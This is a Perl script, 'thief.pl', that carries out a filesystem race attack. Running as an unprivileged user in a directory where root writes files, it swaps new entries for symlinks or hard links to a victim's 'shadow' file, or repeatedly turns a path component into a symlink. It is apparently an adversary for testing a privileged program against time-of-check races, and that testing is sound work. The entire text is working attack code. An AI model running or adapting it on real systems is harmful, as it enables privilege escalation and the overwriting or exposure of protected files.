# A service user who exchanges what root makes in a directory of his, as fast as he can.
#
#   thief.pl swap DIRECTORY TARGET VICTIM [own]   files and directories that appear become links into VICTIM, whose file is
#                                                 `shadow`; with `own` he puts a TARGET of his own there when there is none
#   thief.pl component PARENT NAME VICTIM         the directory itself is a link to VICTIM every other moment
use strict;
use warnings;
my ($trick, $directory, $name, $victim, $own) = @ARGV;
my $stolen = 0;
$SIG{ALRM} = sub { exit 0 };
alarm 3600;

sub pause { select undef, undef, undef, rand() * $_[0] }

sub swap {
    my ($entry) = @_;
    my $led = -d _ ? $victim : "$victim/shadow";
    my $gone = -d _ || rand() < 0.5 ? rename $entry, "stolen." . $stolen++ : unlink $entry;
    return unless $gone;
    return if rand() < 0.1 && link "$victim/shadow", $entry;
    symlink $led, $entry;
}

while (1) {
    chdir $directory or next;
    if ($trick eq 'component') {
        rename $name, "$name.real" and symlink $victim, $name;
        pause 0.002;
        unlink $name;
        rename "$name.real", $name;
        pause 0.01;
        next;
    }
    opendir my $all, '.' or next;
    for my $entry (grep { !/^\.\.?$|^stolen/ } readdir $all) {
        lstat $entry or next;
        if (-l _) { unlink $entry if rand() < 0.7 }
        elsif ($entry eq $name) { swap $entry if rand() < 0.001 }
        elsif (rand() < 0.3) { swap $entry }
        else { pause 0.004 }
    }
    if ($own && !-e $name && open my $file, '>', $name) { print $file "[a]\nb = 1\n" }
    pause 0.001 if rand() < 0.05;
}
